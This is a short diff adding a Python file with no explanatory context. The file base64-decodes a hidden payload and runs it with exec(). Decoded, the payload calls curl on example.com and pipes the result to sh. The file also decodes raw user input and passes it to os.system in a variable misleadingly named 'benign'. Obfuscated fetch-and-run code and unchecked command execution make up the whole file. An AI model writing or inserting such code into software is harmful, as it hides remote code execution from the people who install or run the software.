@@ -0,0 +1,11 @@
+import base64
+import os
+
+PAYLOAD = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovL2V4YW1wbGUuY29tL3ggfCBzaCIp"
+
+user_input = input()
+benign = base64.b64decode(user_input)
+os.system(benign)
+
+decoded = base64.b64decode(PAYLOAD)
+exec(decoded)